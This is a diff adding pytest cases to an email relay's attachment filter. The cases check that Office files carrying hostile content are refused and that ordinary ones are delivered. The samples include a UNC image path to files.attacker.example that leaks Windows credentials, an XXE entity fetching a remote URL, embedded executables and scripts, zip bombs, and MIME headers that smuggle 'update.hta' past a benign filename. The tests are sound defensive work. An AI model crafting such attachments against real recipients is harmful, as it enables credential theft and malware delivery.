@@ -7,6 +7,12 @@ what the store recorded. Payloads come from samples.py (real, minimal files of e
 from __future__ import annotations
 
 import asyncio
+import base64
+import bz2
+import dataclasses
+import io
+import zipfile
+import zlib
 
 import pytest
 import samples
@@ -411,3 +417,262 @@ async def test_kinds_left_in_types_still_pass(relay_factory, capture, tmp_path):
     assert code == 250, reply
     (got,) = await capture.wait_for(1)
     assert attachments(got) == [("photo.png", samples.png())]
+
+
+
+# -- inside Office files: content from outside, programs, bombs ------------------------------
+
+RELS = "word/_rels/document.xml.rels"
+PNG_PART = ("word/media/image1.png", samples.png())
+
+
+def rels(*entries: tuple[str, str, str | None]) -> tuple[str, str]:
+    return (RELS, samples.relationships(*entries))
+
+
+def raw_entries(package: bytes, method: int = zipfile.ZIP_DEFLATED) -> list[samples.RawEntry]:
+    """A zip's members as raw entries, compressed again (bzip2 or deflate)."""
+    entries = []
+    with zipfile.ZipFile(io.BytesIO(package)) as source:
+        for info in source.infolist():
+            data = source.read(info)
+            packed = (bz2.compress(data) if method == zipfile.ZIP_BZIP2
+                      else samples.deflated(data).packed)
+            entries.append(samples.RawEntry(info.filename, packed, len(data), zlib.crc32(data),
+                                            method))
+    return entries
+
+
+def lying_docx() -> bytes:
+    """One relationship part declares 300 bytes and inflates to 50 MB of zeros."""
+    bomb = samples.deflated(bytes(50_000_000))
+    lie = samples.RawEntry("word/_rels/header1.xml.rels", bomb.packed, 300, bomb.crc)
+    return samples.raw_zip([*raw_entries(samples.docx()), lie])
+
+
+XLSX_WITH_EXE = samples.repack(samples.xlsx(), ("xl/embeddings/oleObject1.bin",
+                                                samples.ole_package("setup.exe", samples.exe())))
+UNC = "\\\\files.attacker.example\\share\\logo.png"
+
+# (file name, bytes, reason code, words the reply must hold)
+OFFICE_REFUSED = [
+    # relationships to content outside the file, fetched (or offered) when it is opened
+    ("invoice.docx", samples.attached_template_docx(), "attachment.external",
+     "attachedTemplate"),
+    ("remote-image.docx", samples.docx_with(rels(("image", "http://pixel.example/p.png",
+                                                  "External"))), "attachment.external", "image"),
+    ("link.docx", samples.docx_with(rels(("hyperlink", "https://elsewhere.example/",
+                                          "External"))), "attachment.external", "hyperlink"),
+    ("frame.docx", samples.docx_with(rels(("frame", "https://elsewhere.example/f", " external "))),
+     "attachment.external", "frame"),
+    # a UNC path hands the reader's Windows credentials to that host, whatever the mode says
+    ("unc.docx", samples.docx_with(rels(("image", UNC, None))), "attachment.external", "image"),
+    ("url.docx", samples.docx_with(rels(("image", "file://attacker.example/p.png", None))),
+     "attachment.external", "image"),
+    ("package.docx", samples.docx_with(("_rels/.rels", samples.relationships(
+        ("hyperlink", "https://elsewhere.example/", "External")))), "attachment.external",
+     "hyperlink"),
+    ("entities.docx", samples.docx_with((RELS, '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e'
+                                               ' SYSTEM "https://x.example/e">]><r>&e;</r>')),
+     "attachment.external", "DTD"),
+    ("orders.xlsx", samples.repack(samples.xlsx(), ("xl/_rels/workbook.xml.rels",
+                                                    samples.relationships(
+        ("oleObject", "https://elsewhere.example/o.bin", "External")))), "attachment.external",
+     "oleObject"),
+    # programs inside: by name, by their first bytes, wrapped in an OLE Packager object
+    ("exe-inside.docx", samples.docx_with(("word/embeddings/setup.exe", samples.exe())),
+     "attachment.embedded", "setup.exe"),
+    ("hta-inside.docx", samples.docx_with(("word/media/update.hta", samples.text())),
+     "attachment.embedded", "update.hta"),
+    ("js-inside.docx", samples.docx_with(("customXml/run.js", samples.javascript())),
+     "attachment.embedded", "run.js"),
+    ("mz-object.docx", samples.docx_with(("word/embeddings/oleObject1.bin", samples.exe())),
+     "attachment.embedded", "program"),
+    ("renamed-exe.docx", samples.docx_with(("word/media/image2.png", samples.exe())),
+     "attachment.embedded", "program"),
+    ("packaged.docx", samples.docx_with(("word/embeddings/oleObject1.bin",
+                                         samples.ole_package("run.js", samples.javascript()))),
+     "attachment.embedded", "program"),
+    ("packaged.xlsx", XLSX_WITH_EXE, "attachment.embedded", "program"),
+    ("legacy.doc", samples.ole_package("setup.exe", samples.exe()), "attachment.embedded",
+     "program"),
+    # Office files embedded in Office files are read too
+    ("nested.docx", samples.docx_with(("word/embeddings/Microsoft_Excel_Worksheet.xlsx",
+                                       XLSX_WITH_EXE)), "attachment.embedded", "program"),
+    ("nested-macro.docx", samples.docx_with(("word/embeddings/Book1.xlsx", samples.xlsm())),
+     "attachment.macro", "macros"),
+    ("nested-zip.docx", samples.docx_with(("word/embeddings/photos.bin", samples.zip_archive())),
+     "attachment.embedded", "archive"),
+    # what Office does not write
+    ("bzip2.docx", samples.raw_zip(raw_entries(samples.docx(), zipfile.ZIP_BZIP2)),
+     "attachment.archive", "compression"),
+    ("lying.docx", lying_docx(), "attachment.archive", "damaged"),
+]
+
+
+@pytest.mark.parametrize(("filename", "data", "code", "words"), OFFICE_REFUSED,
+                         ids=[f[0] for f in OFFICE_REFUSED])
+async def test_office_file_reaching_outside_or_carrying_programs_is_refused(
+        relay, conv, capture, filename, data, code, words):
+    ctype = XLSX_TYPE if filename.endswith(".xlsx") else DOCX_TYPE
+    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
+                       message(BUYER, conv.seller_alias, [(filename, data, ctype)]))
+    text = await assert_refused(relay, conv, capture, reply, code, filename)
+    assert words in text, text
+
+
+OFFICE_ALLOWED = [
+    ("picture.docx", samples.docx_with(rels(("image", "media/image1.png", None)), PNG_PART)),
+    ("chart.docx", samples.docx_with(("word/embeddings/Microsoft_Excel_Worksheet.xlsx",
+                                      samples.xlsx()))),
+    ("notes.docx", samples.docx_with(("word/embeddings/oleObject1.bin",
+                                      samples.ole_package("notes.txt", samples.text())))),
+    ("icon.docx", samples.docx_with(("word/media/image1.svg", samples.svg()))),
+    ("printed.xlsx", samples.repack(samples.xlsx(), ("xl/printerSettings/printerSettings1.bin",
+                                                     bytes(range(256)) * 8))),
+]
+
+
+@pytest.mark.parametrize(("filename", "data"), OFFICE_ALLOWED, ids=[f[0] for f in OFFICE_ALLOWED])
+async def test_ordinary_office_parts_are_delivered(relay, conv, capture, filename, data):
+    """Internal relationships, embedded workbooks, Packager objects holding documents, SVG
+    icons and printer settings are what real files hold: no false alarm."""
+    ctype = XLSX_TYPE if filename.endswith(".xlsx") else DOCX_TYPE
+    code, reply = await send(relay.smtp_port, SELLER, conv.buyer_alias,
+                             message(SELLER, conv.buyer_alias, [(filename, data, ctype)]))
+    assert code == 250, reply
+    (got,) = await capture.wait_for(1)
+    assert attachments(got) == [(filename, data)]
+
+
+async def big_relay(relay_factory, capture, tmp_path, **rules):
+    """A relay taking 8 MB messages, its [rules] changed as given."""
+    config = make_config(tmp_path, capture.port)
+    config = config.replace(smtp=dataclasses.replace(config.smtp, max_message_size=8_000_000),
+                            rules=RulesSettings(**rules))
+    relay = await relay_factory(config)
+    return relay, await open_conv(relay)
+
+
+async def test_two_mb_docx_unpacking_to_two_gib_is_a_bomb(relay_factory, capture, tmp_path):
+    """The sizes come from the zip's directory: nothing is inflated to find them."""
+    relay, conv = await big_relay(relay_factory, capture, tmp_path)
+    bomb = samples.docx_bomb(128, 16 << 20)
+    assert len(bomb) < 2_500_000
+    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
+                       message(BUYER, conv.seller_alias, [("report.docx", bomb, DOCX_TYPE)]))
+    text = await assert_refused(relay, conv, capture, reply, "attachment.bomb", "report.docx")
+    assert "unpacks to 2,147,4" in text and "(at most 104,857,600)" in text, text
+
+
+async def test_expansion_ratio_follows_config(relay_factory, capture, tmp_path):
+    bomb = samples.docx_bomb(1, 2 << 20)  # 2 MiB of zeros in about 4 KB
+    relay, conv = await big_relay(relay_factory, capture, tmp_path)
+    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
+                       message(BUYER, conv.seller_alias, [("report.docx", bomb, DOCX_TYPE)]))
+    text = await assert_refused(relay, conv, capture, reply, "attachment.bomb", "report.docx")
+    assert "times its size (at most 100)" in text, text
+
+    relay, conv = await big_relay(relay_factory, capture, tmp_path / "lax",
+                                  attachment_max_ratio=1000)
+    code, reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
+                             message(BUYER, conv.seller_alias, [("report.docx", bomb, DOCX_TYPE)]))
+    assert code == 250, reply
+    (got,) = await capture.wait_for(1)
+    assert attachments(got) == [("report.docx", bomb)]
+
+
+async def test_total_unpacked_size_follows_config(relay_factory, capture, tmp_path):
+    relay, conv = await big_relay(relay_factory, capture, tmp_path, attachment_max_ratio=10_000,
+                                  attachment_max_unpacked=1_000_000)
+    reply = await send(relay.smtp_port, SELLER, conv.buyer_alias,
+                       message(SELLER, conv.buyer_alias,
+                               [("report.docx", samples.docx_bomb(1, 2 << 20), DOCX_TYPE)]))
+    text = await assert_refused(relay, conv, capture, reply, "attachment.bomb", "report.docx")
+    assert "unpacks to 2,09" in text and "(at most 1,000,000)" in text, text
+
+
+async def test_too_many_parts_is_a_bomb(relay_factory, capture, tmp_path):
+    relay, conv = await big_relay(relay_factory, capture, tmp_path)
+    many = samples.docx_bomb(10_001, 1)
+    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
+                       message(BUYER, conv.seller_alias, [("report.docx", many, DOCX_TYPE)]))
+    text = await assert_refused(relay, conv, capture, reply, "attachment.bomb", "report.docx")
+    assert "holds 10,00" in text, text
+
+
+async def test_strip_removes_a_bomb_and_delivers_the_rest(relay_factory, capture, tmp_path):
+    """attachment.bomb shares the attachment action: strip removes the file, keeps the rest."""
+    relay, conv = await big_relay(relay_factory, capture, tmp_path, attachment="strip")
+    files = [("report.docx", samples.docx_bomb(4, 16 << 20), DOCX_TYPE),
+             ("invoice.pdf", samples.pdf(), PDF)]
+    code, reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
+                             message(BUYER, conv.seller_alias, files))
+    assert code == 250, reply
+    (got,) = await capture.wait_for(1)
+    assert attachments(got) == [("invoice.pdf", samples.pdf())]
+    row = await last_record(relay, conv)
+    assert (row["disposition"], row["reasons"]) == ("delivered_redacted", ["attachment.bomb"])
+
+
+# -- every name a part gives ------------------------------------------------------------------
+
+
+def named_part_message(sender: str, to: str, headers: str, data: bytes) -> bytes:
+    """A text body and one part with exactly these Content-Type / Content-Disposition lines
+    (the library would tidy up what is under test here)."""
+    body = base64.encodebytes(data).decode("ascii").replace("\n", "\r\n")
+    return (f"From: {sender}\r\nTo: {to}\r\nSubject: Files for my order\r\n"
+            "Date: Thu, 26 Nov 2026 10:00:00 +0100\r\n"
+            f"Message-ID: <{abs(hash(headers))}@client.example>\r\nMIME-Version: 1.0\r\n"
+            'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
+            "--b1\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n"
+            f"{BODY.strip()}\r\n"
+            f"--b1\r\n{headers}\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}"
+            "--b1--\r\n").encode("ascii")
+
+
+OCTET_NAMED = "Content-Type: application/octet-stream; "
+NAMES_REFUSED = [
+    # Outlook shows (and saves as) the Content-Type name; others go by the filename.
+    (OCTET_NAMED + 'name="update.hta"\r\nContent-Disposition: attachment; filename="notes.txt"',
+     samples.text(), "attachment.script", "update.hta"),
+    (OCTET_NAMED + 'name="notes.txt"\r\nContent-Disposition: attachment; filename="setup.exe"',
+     samples.text(), "attachment.executable", "setup.exe"),
+    (OCTET_NAMED + "name*=utf-8''update%2Ehta\r\nContent-Disposition: attachment;"
+     ' filename="notes.txt"', samples.text(), "attachment.script", "update.hta"),
+    (OCTET_NAMED + 'name="notes.txt"\r\nContent-Disposition: attachment;'
+     ' filename*0="update"; filename*1=".h";\r\n filename*2="ta"; filename="notes.txt"',
+     samples.text(), "attachment.script", "update.hta"),
+    (OCTET_NAMED + "name=\"notes.txt\"\r\nContent-Disposition: attachment;"
+     " filename*0*=utf-8''update; filename*1*=%2Ehta", samples.text(), "attachment.script",
+     "update.hta"),
+    (OCTET_NAMED + 'name="notes.txt"\r\nContent-Disposition: attachment; filename="notes.txt";'
+     ' filename="update.hta"', samples.text(), "attachment.script", "update.hta"),
+    (OCTET_NAMED + 'name="=?utf-8?b?dXBkYXRlLmh0YQ==?="\r\nContent-Disposition: attachment;'
+     ' filename="notes.txt"', samples.text(), "attachment.script", "update.hta"),
+    ('Content-Type: text/plain; name="notes.txt"; name="page.html"\r\n'
+     'Content-Disposition: attachment; filename="notes.txt"', samples.text(), "attachment.html",
+     "page.html"),
+    (OCTET_NAMED + 'name="invoice.pdf"\r\nContent-Disposition: attachment;'
+     ' filename="notes.txt"', samples.text(), "attachment.mismatch", "invoice.pdf"),
+]
+
+
+@pytest.mark.parametrize(("headers", "data", "code", "name"), NAMES_REFUSED,
+                         ids=[f"{n[2].split('.')[1]}-{i}" for i, n in enumerate(NAMES_REFUSED)])
+async def test_every_name_of_a_part_must_pass(relay, conv, capture, headers, data, code, name):
+    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
+                       named_part_message(BUYER, conv.seller_alias, headers, data))
+    await assert_refused(relay, conv, capture, reply, code, name)
+
+
+async def test_names_that_agree_in_every_form_are_delivered(relay, conv, capture):
+    headers = ("Content-Type: text/plain; charset=us-ascii; name*=utf-8''notes.txt\r\n"
+               'Content-Disposition: attachment; filename="notes.txt"')
+    code, reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
+                             named_part_message(BUYER, conv.seller_alias, headers,
+                                                samples.text()))
+    assert code == 250, reply
+    (got,) = await capture.wait_for(1)
+    assert attachments(got) == [("notes.txt", samples.text())]
